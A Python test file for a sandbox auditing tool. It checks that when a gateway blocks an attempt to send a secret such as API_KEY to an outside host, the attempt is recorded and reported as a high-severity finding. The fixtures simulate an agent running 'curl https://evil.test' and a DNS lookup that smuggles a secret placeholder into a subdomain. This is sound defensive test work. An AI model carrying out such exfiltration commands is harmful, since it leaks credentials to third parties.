"""Secrets that a sandbox uses and does not hold: what is told of them, and what a reviewer has to see."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from sandtrail.replay.decode.gateway import Exchanges
from tests.replay.turns.recording import GATEWAY, SANDBOX, Recording

TOLD = {"secret": "API_KEY", "fingerprint": "ab" * 8, "host": "evil.test", "in": "header", "at": "x-note"}
ERROR = {"t": "error", "flow": "f", "message": "no", "reason": "exfiltration", "by": "gateway", "at_ns": 9, **TOLD}
REQUEST = {
    "t": "request",
    "flow": "f",
    "id": "1",
    "method": "GET",
    "url": "https://a.test/",
    "end_ns": 5,
    "start_ns": 4,
}


def events(*frames: dict[str, Any]) -> list[tuple[str, str, dict[str, Any]]]:
    exchanges = Exchanges()
    found = [event for n, f in enumerate(frames) for event in exchanges.feed(f"1.{n}", n, json.dumps(f).encode())]
    return [(kind, thing, detail) for kind, _, thing, _, detail in found]


def test_a_refused_request_is_an_exchange_and_an_attempt() -> None:
    _, exchange, attempt = events(REQUEST, {**ERROR, "id": "1", "status": 403, "rule": "a.test", "rules": "cd" * 32})
    assert exchange[0] == "http.exchange"
    assert (exchange[2]["error"], exchange[2]["reason"], exchange[2]["rule"]) == ("no", "exfiltration", "a.test")
    assert attempt[:2] == ("http.exfiltration", "evil.test")
    assert attempt[2] == {"flow": "f", "id": "1", "message": "no", **TOLD}


def test_so_is_what_concerns_a_connection() -> None:
    error, attempt = events({**ERROR, "in": "tunnel"})
    assert error[0] == "http.error"
    assert (attempt[0], attempt[2]["in"]) == ("http.exfiltration", "tunnel")


def test_other_refusals_are_no_attempt() -> None:
    assert [kind for kind, *_ in events(REQUEST, {**ERROR, "id": "1", "reason": "denied"})] == [
        "http.request",
        "http.exchange",
    ]


def test_an_exchange_tells_which_secrets_it_got() -> None:
    _, (_, _, detail) = events(
        {**REQUEST, "secrets": [TOLD, "nonsense", {"else": 1}]}, {**ERROR, "id": "1", "reason": ""}
    )
    assert detail["secrets"] == [TOLD, {}]


@given(st.dictionaries(st.sampled_from([*TOLD, "reason", "rule", "id", "at_ns", "secrets"]), st.recursive(
    st.none() | st.integers() | st.text(max_size=5) | st.just("exfiltration"), st.lists, max_leaves=4)))  # fmt: skip
def test_any_frame_of_this_kind_is_told(fields: dict[str, Any]) -> None:
    for kind, thing, detail in events({**REQUEST, **fields}, {**ERROR, **fields}):
        assert kind.startswith("http.")
        json.dumps([thing, detail])


class Agent(Recording):
    def __init__(self) -> None:
        super().__init__()
        self.agent = self.begin("python", "agent.py")
        self.ask(self.agent, "I go on.", "curl https://evil.test")
        self.shell_pid = self.shell(self.agent, "curl https://evil.test")
        self.curl = self.spawn(self.shell_pid, "curl", "https://evil.test")

    def attempt(self, **told: str) -> None:
        port = self.connect(self.curl, *GATEWAY)
        flow = f"f{len(self.events)}"
        self.add("http.connect", source="gateway", object="h:443", detail={"flow": flow, "client": [SANDBOX, port]})
        detail = {"flow": flow, **TOLD, **told}
        self.add("http.exfiltration", source="gateway", object="evil.test", detail=detail)

    def found(self) -> list[dict[str, Any]]:
        self.wait(2)
        return [f for f in self.timeline()["findings"] if f["verdict"] == "EXFILTRATION_ATTEMPT"]


def test_an_attempt_is_a_grave_finding_with_the_program_and_the_turn() -> None:
    r = Agent()
    r.attempt()
    r.attempt()
    r.attempt(host="other.test", **{"in": "body", "at": ""})
    first, second = r.found()
    assert (first["severity"], first["turn"], len(first["refs"])) == ("high", 1, 2)
    assert first["title"] == "tried to send the secret API_KEY to evil.test"
    assert "curl https://evil.test" in first["explanation"]
    assert "in the header x-note towards evil.test 2 times" in first["explanation"]
    assert second["title"].endswith("other.test")


def test_so_is_a_name_that_is_made_of_a_placeholder() -> None:
    r = Agent()
    r.lookup(r.curl, "Sandtrail-Secret-api-key-0123456789abcdef.evil.test")
    (found,) = r.found()
    assert found["severity"] == "high"
    assert "evil.test" in found["explanation"]


def test_an_ordinary_refusal_is_none() -> None:
    r = Agent()
    r.request(r.curl, "GET", "https://evil.test/", status=403)
    r.lookup(r.curl, "evil.test")
    assert r.found() == []
